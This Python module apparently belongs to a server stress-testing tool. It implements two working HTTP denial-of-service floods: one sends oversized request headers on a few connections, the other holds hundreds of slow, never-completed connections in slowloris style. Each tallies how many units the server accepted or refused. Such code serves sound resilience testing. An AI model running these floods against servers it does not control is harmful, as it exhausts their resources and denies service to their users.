"""Floods of very long and very slow request heads, and of silent connections."""

import asyncio
from contextlib import suppress

from ..hostile import AGAIN, Flood
from ..line import LOST, place

BEGINNING = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n"
MIB = 2**20


class LongHeads(Flood):
    """Many MiB of head on few connections. Accepted are the MiB that the server read."""

    name = "heads"
    unit = "MiB of head"
    connections = 4
    most = 32  # MiB on one connection before the next begins

    async def attack(self) -> None:
        async with asyncio.TaskGroup() as group:
            for number in range(self.connections):
                group.create_task(self._stream(one_field=number == 0))

    async def _stream(self, *, one_field: bool) -> None:
        """Send a head as one endless field, or as many fields."""
        piece = b"a" * MIB if one_field else (b"X-Flood: " + b"a" * 4_000 + b"\r\n") * (MIB // 4_011)
        while True:
            writer: asyncio.StreamWriter | None = None
            try:
                reader, writer = await asyncio.open_connection(*place(self.url), local_addr=(self.address, 0))
                writer.write(BEGINNING + (b"X-Flood: " if one_field else b""))
                for _ in range(self.most):
                    if reader.at_eof():
                        raise ConnectionResetError
                    writer.write(piece)
                    await writer.drain()
                    self.counts.accepted += 1
            except LOST:
                self.counts.refused += 1
            finally:
                if writer is not None:
                    writer.transport.abort()  # a server that reads no more would keep it open
            await asyncio.sleep(AGAIN)


class SlowHeads(Flood):
    """Hundreds of connections that never complete or never begin their first line. Accepted: those that stay open."""

    name = "slow"
    unit = "connections"
    connections = 400
    rate = 200.0

    async def attack(self) -> None:
        open_now: list[asyncio.StreamWriter] = []
        try:
            async with asyncio.TaskGroup() as group:
                for number in range(self.connections):
                    group.create_task(self._hold(number, open_now))
        finally:
            for writer in open_now:
                writer.transport.abort()

    async def _hold(self, number: int, open_now: list[asyncio.StreamWriter]) -> None:
        await asyncio.sleep(number / self.rate)
        while True:
            with suppress(*LOST):
                reader, writer = await asyncio.open_connection(*place(self.url), local_addr=(self.address, 0))
                open_now.append(writer)
                self.counts.accepted += 1
                while not reader.at_eof():
                    if number % 2:
                        writer.write(BEGINNING if number % 4 == 1 else b"G")
                    await asyncio.sleep(1)
                open_now.remove(writer)
                writer.close()
            self.counts.refused += 1
            await asyncio.sleep(1)
